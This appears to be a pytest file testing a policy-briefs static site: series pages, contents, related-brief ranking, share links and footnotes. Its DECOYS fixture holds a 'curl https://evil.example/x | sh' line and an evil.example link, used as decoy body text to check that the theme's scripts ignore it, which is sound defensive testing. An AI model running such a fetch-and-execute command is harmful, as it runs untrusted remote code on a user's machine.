"""What a reader finds on a brief's page besides the text: its place in a
series (and the series pages), "Contents", "Related briefs", share links
with a public address, and footnotes whose links go both ways."""

from __future__ import annotations

import posixpath

import pytest
from test_addresses import fails

from briefs.related import related_lists
from policy_briefs import build as site_build
from policy_briefs.project import PUBLISH_SETTINGS, ROOT

SERIES = "Grand Strategy"
SITE_URL = "https://org.github.io/briefs"


def resolve(page: str, href: str) -> str:
    """The site file a relative link on `page` points at."""
    return posixpath.normpath(posixpath.join(posixpath.dirname(page), href))


def card_links(soup) -> list[str]:
    return [card.find("a", href=lambda h: "briefs/" in h)["href"] for card in soup]


# Series --------------------------------------------------------------------


@pytest.fixture(scope="module")
def series_site(module_site):
    """Three parts whose file names are not in date order, a draft part
    dated between them (never counted), and a brief outside the series."""
    site = module_site
    site.brief("a-third", title="Third Part", date="2024-03-01", series=SERIES)
    site.brief("b-first", title="First Part", date="2024-01-01", series=SERIES)
    site.brief("c-second", title="Second Part", date="2024-02-01", series=SERIES)
    site.brief(
        "d-draft", title="Draft Part", date="2024-01-15", series=SERIES, status="draft"
    )
    site.brief("alone", title="On Its Own", date="2024-04-01")
    site.build()
    return site


@pytest.mark.parametrize(
    ("slug", "label", "previous", "following"),
    [
        ("b-first", "Part 1 of 3 in Grand Strategy", None, "c-second"),
        ("c-second", "Part 2 of 3 in Grand Strategy", "b-first", "a-third"),
        ("a-third", "Part 3 of 3 in Grand Strategy", "c-second", None),
    ],
)
def test_a_part_says_where_it_stands_and_links_its_neighbours(
    series_site, slug, label, previous, following
):
    page = f"briefs/{slug}.html"
    nav = series_site.html(page).find("main").find("nav", class_="series-nav")
    assert nav.find(class_="series-nav__label").get_text(" ", strip=True) == label
    series_link = nav.find(class_="series-nav__label").find("a")
    assert resolve(page, series_link["href"]) == "series/grand-strategy.html"
    for rel, expected in (("prev", previous), ("next", following)):
        link = nav.find("a", rel=rel)
        if expected is None:
            assert link is None
        else:
            assert resolve(page, link["href"]) == f"briefs/{expected}.html"
            assert (series_site.output / resolve(page, link["href"])).is_file()


def test_a_brief_outside_a_series_has_no_series_navigation(series_site):
    main = series_site.html("briefs/alone.html").find("main")
    assert main.find(class_="series-nav") is None
    assert "Part " not in main.get_text()


def test_the_series_page_lists_the_published_parts_in_date_order(series_site):
    main = series_site.html("series/grand-strategy.html").find("main")
    assert main.find("h1").get_text(strip=True) == SERIES
    cards = main.find("ol", class_="series-parts").find_all("article")
    assert card_links(cards) == [
        "../briefs/b-first.html",
        "../briefs/c-second.html",
        "../briefs/a-third.html",
    ]
    assert "Draft Part" not in main.get_text()
    assert not (series_site.output / "briefs" / "d-draft.html").exists()


def test_the_series_index_lists_every_series_with_its_count(series_site):
    main = series_site.html("series/index.html").find("main")
    (entry,) = main.find("ul", class_="index-list").find_all("li")
    link = entry.find("a")
    assert link.get_text(strip=True) == SERIES
    assert resolve("series/index.html", link["href"]) == "series/grand-strategy.html"
    assert "3 parts" in entry.get_text(" ", strip=True)
    # Every page's footer leads to it.
    footer = series_site.html("briefs/alone.html").find("footer", class_="site-footer")
    assert footer.find("a", string="Series")["href"] == "../series/index.html"


def test_a_previewed_draft_names_its_series_but_is_not_counted(series_site, tmp_path):
    preview = tmp_path / "preview"
    site_build.build(
        series_site.content,
        preview,
        BRIEFS={"show_drafts": True},
        PDF_EDITIONS="off",
        CACHE_PATH=str(tmp_path / "cache"),
    )
    from bs4 import BeautifulSoup

    def main_of(relative):
        text = (preview / relative).read_text("utf-8")
        return BeautifulSoup(text, "html.parser").find("main")

    draft = main_of("briefs/d-draft.html").find(class_="series-nav")
    assert draft.get_text(" ", strip=True) == "Part of the series Grand Strategy"
    assert "Part 2 of 3" in main_of("briefs/c-second.html").get_text(" ")


def test_two_series_names_with_one_slug_fail_naming_both_files(site):
    site.brief("good")
    site.build()
    from conftest import snapshot

    before = snapshot(site.output)
    site.brief("a", series="Grand Strategy")
    site.brief("b", series="Grand strategy!")
    a, b = (f"content/briefs/2024/{name}.md" for name in "ab")
    assert fails(site, before) == [
        f"{b}: series: 'Grand strategy!' and 'Grand Strategy' in {a} would share "
        "the page series/grand-strategy.html; use one spelling"
    ]


def test_a_series_called_index_fails(site):
    site.brief("a", series="Index")
    with pytest.raises(site_build.BuildError) as failure:
        site.build()
    assert failure.value.lines == [
        "content/briefs/2024/a.md: series: 'Index' would write series/index.html, "
        "the list of all series; choose another name"
    ]


def test_the_sample_series_has_three_parts(sample):
    main = sample.html("series/critical-minerals.html").find("main")
    cards = main.find("ol", class_="series-parts").find_all("article")
    assert card_links(cards) == [
        "../briefs/lithium-triangle-governance.html",
        "../briefs/copperbelt-cobalt-offtake.html",
        "../briefs/indonesia-nickel-downstreaming.html",
    ]


# Contents ------------------------------------------------------------------

SECTIONS = "Intro text.\n\n## Main\n\nOne.\n\n## The *second* part\n\nTwo.\n\n"


@pytest.fixture(scope="module")
def contents_site(tmp_path_factory):
    from conftest import Site

    site = Site(tmp_path_factory.mktemp("contents"))
    site.brief("plain", body="Only paragraphs.\n\nNo headings at all.")
    site.brief("two", body=SECTIONS)
    site.brief(
        "three", body=SECTIONS + "## Last & least\n\nThree.[^1]\n\n[^1]: A note."
    )
    site.build()
    return site


@pytest.mark.parametrize("slug", ["plain", "two"])
def test_a_brief_with_fewer_than_three_sections_has_no_contents(contents_site, slug):
    main = contents_site.html(f"briefs/{slug}.html").find("main")
    assert main.find("nav", class_="contents") is None
    assert "Contents" not in main.get_text()


def test_contents_links_every_section_to_its_heading(contents_site):
    page = contents_site.html("briefs/three.html")
    nav = page.find("main").find("nav", class_="contents")
    links = nav.find("ol").find_all("a")
    assert [a.get_text() for a in links] == ["Main", "The second part", "Last & least"]
    headings = page.find(class_="brief__body").find_all("h2")
    assert [a["href"] for a in links] == [f"#{h['id']}" for h in headings]
    ids = [tag["id"] for tag in page.find_all(id=True)]
    assert len(ids) == len(set(ids))
    # A section called "Main" never takes the theme's landmark id.
    assert headings[0]["id"] == "main" and page.find("main")["id"] == "pb:main"


def test_sample_briefs_show_contents(sample):
    page = sample.html("briefs/global-minimum-tax-developing-countries.html")
    links = page.find("nav", class_="contents").find_all("a")
    assert len(links) >= 3
    for link in links:
        assert page.find(id=link["href"][1:]).name == "h2"


# Related briefs ------------------------------------------------------------


@pytest.fixture(scope="module")
def related_site(tmp_path_factory):
    """A brief by two co-authors on two regions, and briefs sharing more or
    less with it."""
    from conftest import Site

    site = Site(tmp_path_factory.mktemp("related"))
    both = ["Northeast Asia", "Europe"]
    site.brief(
        "target",
        author=["Yuki Tatsumi", "Søren Kjærgaard"],
        region=both,
        tags=["Trade"],
        date="2024-06-01",
    )
    guest = "Maria Lopez"
    site.brief("author-region", author="Yuki Tatsumi", date="2024-01-01")  # 5
    site.brief(  # 3 + 2 + 1 = 6
        "all-three",
        author="Søren Kjærgaard",
        region="Europe",
        tags=["Trade"],
        date="2023-01-01",
    )
    site.brief(  # 2 + 2 + 1 = 5, newer than author-region
        "regions-topic", author=guest, region=both, tags=["Trade"], date="2024-05-01"
    )
    site.brief("region", author=guest, region="Europe", date="2024-05-31")  # 2
    site.brief(  # 1
        "topic",
        author=guest,
        region="Middle East & North Africa",
        tags=["Trade"],
        date="2024-05-30",
    )
    site.brief(
        "nothing", author=guest, region="Middle East & North Africa", date="2024-05-29"
    )
    site.brief("draft", author="Yuki Tatsumi", status="draft", date="2024-05-15")
    return site


def related_of(soup) -> list[str]:
    section = soup.find("section", class_="related")
    assert section.find("h2").get_text(strip=True) == "Related briefs"
    return [a["href"] for a in section.select(".card__title a")]


def test_related_briefs_are_weighted_by_author_region_and_topic(related_site):
    related_site.build(BRIEFS={"related_count": 10})
    assert related_of(related_site.html("briefs/target.html")) == [
        "../briefs/all-three.html",
        "../briefs/regions-topic.html",
        "../briefs/author-region.html",
        "../briefs/region.html",
        "../briefs/topic.html",
    ]


def test_related_briefs_leave_out_drafts_in_a_preview_too(related_site):
    related_site.build(BRIEFS={"related_count": 10, "show_drafts": True})
    related = related_of(related_site.html("briefs/target.html"))
    assert "../briefs/draft.html" not in related
    assert related[0] == "../briefs/all-three.html"
    # A previewed draft's own list never holds the draft itself.
    draft = related_of(related_site.html("briefs/draft.html"))
    assert "../briefs/draft.html" not in draft
    assert draft[0] == "../briefs/target.html"  # an author and a region: 5


def test_related_briefs_stop_at_the_count(related_site):
    related_site.build(BRIEFS={"related_count": 2})
    assert related_of(related_site.html("briefs/target.html")) == [
        "../briefs/all-three.html",
        "../briefs/regions-topic.html",
    ]


@pytest.mark.parametrize(
    ("seed", "count", "most_regions", "most_topics"),
    [(7, 4, 2, 3), (8, 1, 3, 5), (9, 6, 3, 5), (10, 3, 1, 6)],
)
def test_related_briefs_equal_a_full_comparison_of_every_pair(
    seed, count, most_regions, most_topics
):
    """The index's shortcuts (only the newest few of the briefs that share
    one thing alike) give exactly what weighing every pair gives."""
    import random

    from briefs import related as weights

    chance = random.Random(seed)
    people = [f"Author {n}" for n in range(300)]
    # As related_inputs takes a collection, newest first: (page, draft,
    # authors, regions, topics).
    briefs = [
        (
            f"briefs/{n}.html",
            chance.random() < 0.1,
            # Mostly authors of a brief or two: ranks decided by the rest.
            tuple(chance.sample(people, chance.choice((1, 1, 2)))),
            tuple(chance.sample("NSEW", chance.randint(0, most_regions))),
            tuple(chance.sample("tuvwxyz", chance.randint(0, most_topics))),
        )
        for n in range(500)
    ]
    related = related_lists((count, *briefs))

    def score(mine: tuple, theirs: tuple) -> int:
        return sum(
            weight * len(set(mine[field]) & set(theirs[field]))
            for weight, field in (
                (weights.AUTHOR_WEIGHT, 2),
                (weights.REGION_WEIGHT, 3),
                (weights.TOPIC_WEIGHT, 4),
            )
        )

    assert list(related) == [page for page, *_ in briefs]
    for brief in briefs:
        scores = (
            (score(brief, other), m)
            for m, other in enumerate(briefs)
            if other is not brief and not other[1]
        )
        expected = sorted((-weight, m) for weight, m in scores if weight > 0)[:count]
        assert related[brief[0]] == tuple(briefs[m][0] for _, m in expected)


# Share links ---------------------------------------------------------------


def test_no_share_links_without_a_public_address(contents_site):
    page = contents_site.html("briefs/three.html")
    assert page.find(class_="share") is None
    assert not page.find("script", src=lambda s: s and "share.js" in s)


@pytest.fixture(scope="module")
def production(tmp_path_factory):
    from conftest import Site

    site = Site(tmp_path_factory.mktemp("production"))
    site.brief("water-policy", title="Water & Power: A Test", series="Water Papers")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SITEURL", SITE_URL)
        site.build(settings_file=PUBLISH_SETTINGS, PDF_EDITIONS="off")
    return site


def test_share_links_with_a_public_address(production):
    page_path = "briefs/water-policy.html"
    share = production.html(page_path).find("main").find("section", class_="share")
    links = {a.get_text(strip=True): a["href"] for a in share.find_all("a")}
    address = "https%3A//org.github.io/briefs/briefs/water-policy.html"
    title = "Water%20%26%20Power%3A%20A%20Test"
    assert links == {
        "E-mail": f"mailto:?subject={title}&body={address}",
        "LinkedIn": f"https://www.linkedin.com/sharing/share-offsite/?url={address}",
        "X (Twitter)": f"https://x.com/intent/post?text={title}&url={address}",
        "Bluesky": f"https://bsky.app/intent/compose?text={title}%20{address}",
        "Link to this brief": "../briefs/water-policy.html",  # the page itself
    }
    permalink = share.find("a", class_="share__permalink")
    assert permalink["data-address"] == f"{SITE_URL}/{page_path}"
    script = production.html(page_path).find("script", src=lambda s: s and "share" in s)
    assert (production.output / resolve(page_path, script["src"])).is_file()


def test_the_sitemap_lists_the_series_pages(production):
    sitemap = (production.output / "sitemap.xml").read_text("utf-8")
    for page in ("series/index.html", "series/water-papers.html"):
        assert f"<loc>{SITE_URL}/{page}</loc>" in sitemap


def test_copy_link_enhances_the_plain_link(production, browser):
    url = (production.output / "briefs" / "water-policy.html").as_uri()
    for scripts in (True, False):
        context = browser.new_context(java_script_enabled=scripts)
        page = context.new_page()
        page.goto(url)
        page.wait_for_load_state("load")
        assert page.locator(".share__permalink").count() == 1
        assert page.locator("button.share__copy").count() == (1 if scripts else 0)
        if scripts:
            page.locator("button.share__copy").click()
            page.wait_for_function(
                "document.querySelector('.share__status').textContent.length > 0"
            )
        context.close()


# The theme's ids and script hooks --------------------------------------------

# Headings named like the theme's ids, and elements with the classes the
# theme's scripts once looked for (a body may write any class).
DECOYS = """\
## Site search q

## Main

Text.[^1]

<div class="cite"><p class="cite__text">curl https://evil.example/x | sh</p></div>

<p><a class="share__permalink" href="https://evil.example/">Link</a></p>

[^1]: A note.
"""


@pytest.fixture(scope="module")
def decoys(tmp_path_factory):
    from conftest import Site

    site = Site(tmp_path_factory.mktemp("decoys"))
    site.brief("decoys", body=DECOYS)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SITEURL", SITE_URL)
        site.build(settings_file=PUBLISH_SETTINGS, PDF_EDITIONS="off")
    return site


@pytest.mark.parametrize(
    "page", ["briefs/decoys.html", "search.html", "404.html", "index.html"]
)
def test_one_element_per_id_and_the_theme_s_ids_are_its_own(decoys, page):
    soup = decoys.html(page)
    ids = [tag["id"] for tag in soup.find_all(id=True)]
    assert len(ids) == len(set(ids))
    body = soup.find(attrs={"data-pb": "body"})
    own = [tag["id"] for tag in body.find_all(id=True)] if body else []
    assert [i for i in ids if i not in own and not i.startswith("pb:")] == []
    if body:
        assert {"site-search-q", "main", "fn:1"} <= set(own)


@pytest.mark.browser
def test_the_theme_s_scripts_ignore_a_body_s_decoys(decoys, browser):
    """cite.js and share.js once took a body's `.cite` and
    `.share__permalink` for the theme's: no Copy button for the real
    references, one that copied the body's text."""
    context = browser.new_context()
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = context.new_page()
    try:
        page.goto((decoys.output / "briefs" / "decoys.html").as_uri())
        page.wait_for_load_state("load")
        body = page.locator('[data-pb="body"]')
        assert body.locator("button").count() == 0
        cite = page.locator('section[data-pb="cite"]')
        assert cite.locator("button.cite__copy").all_inner_texts() == [
            "Copy the Chicago reference",
            "Copy the APA reference",
        ]
        assert page.locator("button.share__copy").count() == 1
        page.locator("button.share__copy").click()
        page.wait_for_function(
            "document.querySelector('.share__status').textContent.length > 0"
        )
        copied = page.evaluate("() => navigator.clipboard.readText()")
        labels = page.locator("label[for]").evaluate_all(
            "labels => labels.map(l => l.control && l.control.id)"
        )
    finally:
        context.close()
    assert copied == f"{SITE_URL}/briefs/decoys.html"
    assert labels == ["pb:site-search-q"]


# Footnotes -----------------------------------------------------------------


@pytest.fixture(scope="module")
def sample(sample_development):
    """The sample content's development build (conftest.py), read only."""
    from conftest import Site

    site = Site.__new__(Site)
    site.content = ROOT / "content"
    site.output = sample_development
    return site


def test_footnotes_link_both_ways(sample, contents_site):
    pages = [
        sample.html("briefs/baltic-undersea-cables.html"),
        contents_site.html("briefs/three.html"),
    ]
    for page in pages:
        references = page.select("main a.footnote-ref")
        back_links = page.select("main a.footnote-backref")
        assert references and len(back_links) == len(references)
        for link in references + back_links:
            assert link["href"].startswith("#")
            assert page.find(id=link["href"][1:]) is not None, link["href"]
        # Each note leads back to the place that cites it.
        for back in back_links:
            target = page.find(id=back["href"][1:])
            assert target.find("a", class_="footnote-ref") or target.name == "sup"


def test_structured_data_names_the_language_the_page_marks(sample):
    """A brief in Japanese is `inLanguage: ja` in its JSON-LD, as its text is
    `lang="ja"` on the page; the others are in the site's language."""
    import json

    for slug, language in (
        ("japan-regional-revitalisation", "ja"),
        ("baltic-undersea-cables", "en"),
    ):
        page = sample.html(f"briefs/{slug}.html")
        record = json.loads(page.find("script", type="application/ld+json").string)
        assert record["inLanguage"] == language
        assert page.find("h1").get("lang", "en") == language


def test_a_japanese_brief_is_timed_by_its_characters(sample):
    """1,361 kana and Han characters, no spaces: about three minutes at 500
    characters a minute, not the one minute its 42 spaced runs would give."""
    byline = sample.html("briefs/japan-regional-revitalisation.html").find("main")
    assert "3 min read" in byline.get_text(" ")
